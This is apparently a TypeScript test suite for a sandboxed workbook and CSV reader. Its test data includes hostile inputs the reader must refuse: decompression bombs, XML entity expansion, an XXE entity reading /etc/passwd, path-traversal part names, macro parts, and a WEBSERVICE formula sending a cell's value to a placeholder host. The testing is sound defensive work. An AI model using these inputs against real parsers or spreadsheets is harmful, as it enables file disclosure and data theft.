import { spawnSync } from 'node:child_process'
import { fileURLToPath } from 'node:url'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { confinement } from '#server/confined/reader.ts'
import { oddArchive, type OddPart } from '#server/testing/sheets.ts'
import { readCsv } from './csv-text.ts'
import { createSheetReader, sheetProgram } from './reader.ts'
import { cleanWorkbook } from './workbook.ts'
import { sheetXml, workbookParts, writeWorkbook } from './write.ts'

const reader = createSheetReader()
const listed = [['账号', '客户名称'], ['lz_qinghe', '青禾科技有限公司'], ['', '=SUM(A1)'], ['0012 & <b>', '  x  ']]
/** An honest workbook, with some parts replaced or added. */
const withParts = (...changed: OddPart[]): Buffer => oddArchive([...workbookParts(sheetXml(listed)).filter(({ name }) => !changed.some((part) => part.name === name)), ...changed])
const part = (name: string, text: string): OddPart => ({ name, content: Buffer.from(text) })
const sheet = 'xl/worksheets/sheet1.xml'

test('the texts of a workbook come out as they stand in it, without the blanks around them, and each row knows its place', async () => {
  expect(await reader.read(writeWorkbook([...listed, [''], ['last']]))).toEqual({ rows: [
    { number: 1, cells: ['账号', '客户名称'] }, { number: 2, cells: ['lz_qinghe', '青禾科技有限公司'] }, { number: 3, cells: ['', '=SUM(A1)'] }, { number: 4, cells: ['0012 & <b>', 'x'] }, { number: 6, cells: ['last'] },
  ] })
})

test('a number in a workbook keeps its digits', async () => {
  const numbers = sheetXml([['账号'], ['?']]).replace(/<c r="A2"[^]*?<\/c>/, '<c r="A2"><v>13800000000123</v></c>')
  expect(await reader.read(withParts(part(sheet, numbers)))).toEqual({ rows: [{ number: 1, cells: ['账号'] }, { number: 2, cells: ['13800000000123'] }] })
})

test('shared and rich texts of a spreadsheet program are read', async () => {
  const shared = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>账号</t></si><si><r><t>lz_</t></r><r><rPr><b/></rPr><t>qinghe</t></r></si></sst>'
  const rels = workbookParts('').find(({ name }) => name === 'xl/_rels/workbook.xml.rels')?.content.toString().replace('</Relationships>', '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>') ?? ''
  const cells = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c></row></sheetData></worksheet>'
  expect(await reader.read(withParts(part('xl/sharedStrings.xml', shared), part('xl/_rels/workbook.xml.rels', rels), part(sheet, cells)))).toEqual({ rows: [{ number: 1, cells: ['账号'] }, { number: 2, cells: ['lz_qinghe'] }] })
})

const bomb = Buffer.alloc(30 * 1024 * 1024, ' ')
const entities = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${sheetXml([['&b;']])}`
const document = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const types = (kind: string) => `<Types><Override PartName="/xl/workbook.xml" ContentType="${kind}"/></Types>`
test.each<[string, Buffer, string]>([
  ['a workbook that unfolds to 30 megabytes', withParts({ name: 'xl/media/one.xml', content: bomb }), 'sheet_unpacked'],
  ['one that does and claims to be small', withParts({ name: 'xl/media/one.xml', content: bomb, claimed: 100 }), 'sheet_unpacked'],
  ['one whose many parts do so together', withParts(...Array.from({ length: 30 }, (_, place) => ({ name: `xl/media/${place}.xml`, content: bomb.subarray(0, 1024 * 1024) }))), 'sheet_unpacked'],
  ['a part that claims another size', withParts({ ...part(sheet, sheetXml(listed)), claimed: 5 }), 'sheet_broken'],
  ['entities that unfold', withParts(part(sheet, entities)), 'sheet_entities'],
  ['an entity that names a file', withParts(part('xl/styles.xml', '<!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]><s>&f;</s>')), 'sheet_entities'],
  ['XML that hides its entities in UTF-16', withParts({ name: sheet, content: Buffer.from(`\ufeff${entities}`, 'utf16le') }), 'sheet_broken'],
  ['a workbook with macros', withParts(part('xl/vbaProject.bin', 'x')), 'sheet_active'],
  ['one that only says so', withParts(part('[Content_Types].xml', types('application/vnd.ms-excel.sheet.macroEnabled.main+xml'))), 'sheet_active'],
  ['a workbook with an embedded file', withParts(part('xl/embeddings/oleObject1.bin', 'x')), 'sheet_active'],
  ['a workbook that takes cells of another one', withParts(part('xl/externalLinks/externalLink1.xml', '<x/>')), 'sheet_active'],
  ['a text document', oddArchive([part('[Content_Types].xml', types(document)), part('word/document.xml', '<x/>')]), 'sheet_type'],
  ['any other archive', oddArchive([part('readme.txt', 'hello')]), 'sheet_type'],
  ['the binary kind of workbook', withParts(part('[Content_Types].xml', types('application/vnd.ms-excel.sheet.binary.macroEnabled.main')), part('xl/workbook.bin', 'x')), 'sheet_type'],
  ['a part that leads out of the folder', withParts(part('xl/../../etc/passwd.xml', '<x/>')), 'sheet_broken'],
  ['a part that begins at the root', withParts(part('/etc/passwd.xml', '<x/>')), 'sheet_broken'],
  ['a part of another drive', withParts(part('C:\\x.xml', '<x/>')), 'sheet_broken'],
  ['two parts of one name', oddArchive([...workbookParts(sheetXml(listed)), part(sheet.toUpperCase(), sheetXml([['other']]))]), 'sheet_broken'],
  ['a part whose two headings differ', withParts({ ...part('xl/styles.xml', '<s/>'), localName: 'xl/stylez.xml' }), 'sheet_broken'],
  ['an encrypted part', withParts({ ...part('xl/styles.xml', '<s/>'), flags: 1 }), 'sheet_locked'],
  ['a compression that spreadsheets do not use', withParts({ ...part('xl/styles.xml', '<s/>'), method: 12 }), 'sheet_broken'],
  ['an archive that breaks off', withParts().subarray(0, -60), 'sheet_broken'],
  ['no XML at all', withParts(part(sheet, 'rubbish <<')), 'sheet_broken'],
  ['a row far beyond the end of any sheet', withParts(part(sheet, sheetXml(listed).replace('<row r="2">', '<row r="99999999999">'))), 'sheet_broken'],
  ['the old kind of workbook', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), 'sheet_locked'],
  ['a document', Buffer.from('%PDF-1.4\n'), 'sheet_type'],
  ['a page', Buffer.from('<table><tr><td>账号</td></tr></table>'), 'sheet_type'],
  ['more rows than a list may have', writeWorkbook(Array.from({ length: 10_002 }, () => ['x'])), 'sheet_rows'],
])('%s is refused', async (_what, bytes, fault) => {
  expect(await reader.read(bytes)).toEqual({ fault })
}, 30_000)

test('a formula is refused with its cell, and never run', async () => {
  const xml = sheetXml(listed).replace('<c r="B3" t="inlineStr"><is>', '<c r="B3" t="str"><f>WEBSERVICE("http://x.example/"&amp;A2)</f><v>1</v></c><c r="C3" t="inlineStr"><is>')
  expect(await reader.read(withParts(part(sheet, xml)))).toEqual({ fault: 'sheet_formula', cell: 'B3' })
})

test('a workbook that takes too long is given up', async () => {
  expect(await createSheetReader(0.02).read(writeWorkbook(listed))).toEqual({ fault: 'sheet_broken' })
})

test('a workbook whose cells unfold to more than reading may hold ends its own process', async () => {
  const rows = '<row r="1">' + '<c r="XFD1"><v>1</v></c>' + '</row>' + Array.from({ length: 100_000 }, (_, place) => `<row r="${place + 2}"><c r="XFD${place + 2}"><v>1</v></c></row>`).join('')
  const bytes = withParts(part(sheet, `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`))
  expect(bytes.length).toBeLessThan(5 * 1024 * 1024)
  const { signal } = spawnSync(process.execPath, [...confinement(sheetProgram), sheetProgram.main, 'xlsx'], { env: {}, input: bytes, timeout: 60_000, killSignal: 'SIGTERM' })
  expect(signal).toBe('SIGKILL')
  expect(await reader.read(bytes)).toEqual({ fault: 'sheet_broken' })
}, 60_000)

test('a process that reads a workbook may neither write, nor look around, nor start anything', () => {
  const asked = `JSON.stringify([process.permission.has('fs.write'), process.permission.has('fs.read', '/etc/passwd'), process.permission.has('fs.read', ${JSON.stringify(fileURLToPath(new URL('../env.ts', import.meta.url)))}), process.permission.has('child'), process.permission.has('fs.read', ${JSON.stringify(sheetProgram.main)})])`
  const { stdout } = spawnSync(process.execPath, [...confinement(sheetProgram), '-p', asked], { env: {}, encoding: 'utf8' })
  expect(JSON.parse(stdout)).toEqual([false, false, false, false, true])
})

test('CSV is read in UTF-8 with and without its mark and in GB18030, with any line break and quotes', () => {
  const text = '账号,客户名称\r\nlz_qinghe,"青禾,""科技"""\n\n 0012 ,\rlast'
  const rows = { rows: [{ number: 1, cells: ['账号', '客户名称'] }, { number: 2, cells: ['lz_qinghe', '青禾,"科技"'] }, { number: 4, cells: ['0012'] }, { number: 5, cells: ['last'] }] }
  // 账号,客户名称 … in GB18030.
  const chinese = Buffer.from('d5cbbac52cbfcdbba7c3fbb3c60d0a6c7a5f71696e6768652c22c7e0baccbf2c2222bfc6bcbc2222220a0a2030303132202c0d6c617374'.replace('c7e0baccbf2c', 'c7e0bacc2c'), 'hex')
  expect(readCsv(Buffer.from(text))).toEqual(rows)
  expect(readCsv(Buffer.from(`\ufeff${text}`))).toEqual(rows)
  expect(readCsv(chinese)).toEqual(rows)
})

test.each<[string, Buffer, string]>([
  ['UTF-16', Buffer.from('\ufeff账号,客户名称\nlz_qinghe,x', 'utf16le'), 'sheet_encoding'], ['Latin-1 with an accent', Buffer.from('account\ncaf\xe9', 'latin1'), 'sheet_encoding'], ['control signs', Buffer.from('account\n\u0001\u0002'), 'sheet_encoding'], ['a byte that means nothing', Buffer.from('6163636f756e740aff', 'hex'), 'sheet_encoding'],
  ['a quote that does not end', Buffer.from('account\n"abc'), 'sheet_broken'], ['a cell that goes on behind its quote', Buffer.from('account\n"abc"d'), 'sheet_broken'], ['too many rows', Buffer.from('x\n'.repeat(10_002)), 'sheet_rows'],
])('CSV with %s is refused', (_what, bytes, fault) => {
  expect(readCsv(bytes)).toEqual({ fault })
})

test('five megabytes of one quoted cell, or of nothing but quotes and commas, are read or refused in no time', () => {
  const from = performance.now()
  expect(readCsv(Buffer.from(`"${'""'.repeat(2_600_000)}"`))).toHaveProperty('rows')
  expect(readCsv(Buffer.from(','.repeat(5_200_000)))).toEqual({ rows: [] })
  expect(readCsv(Buffer.from('"'.repeat(5_200_001)))).toEqual({ fault: 'sheet_broken' })
  expect(performance.now() - from).toBeLessThan(5000)
})

test('whatever texts a workbook or CSV is written from, the same come back', async () => {
  const cell = fc.string({ unit: fc.constantFrom('a', '1', '云', '"', ',', '\n', '&', '<', '>', '=', "'", ';', ' ', '_x0041_'), maxLength: 12 })
  const expected = (rows: readonly (readonly string[])[]) => rows.map((cells) => cells.map((text) => text.trim()))
  await fc.assert(fc.asyncProperty(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 6 }), async (rows) => {
    const csv = readCsv(Buffer.from(rows.map((cells) => cells.map((text) => `"${text.replaceAll('"', '""')}"`).join(',')).join('\r\n')))
    for (const { number, cells } of 'rows' in csv ? csv.rows : []) expect(cells).toEqual(expected(rows)[number - 1]?.slice(0, cells.length))
    expect('rows' in csv && csv.rows.length).toBe(expected(rows).filter((cells) => cells.some(Boolean)).length)
    const cleaned = cleanWorkbook(writeWorkbook(rows))
    expect(cleaned).toHaveProperty('clean')
  }), { numRuns: 100 })
})
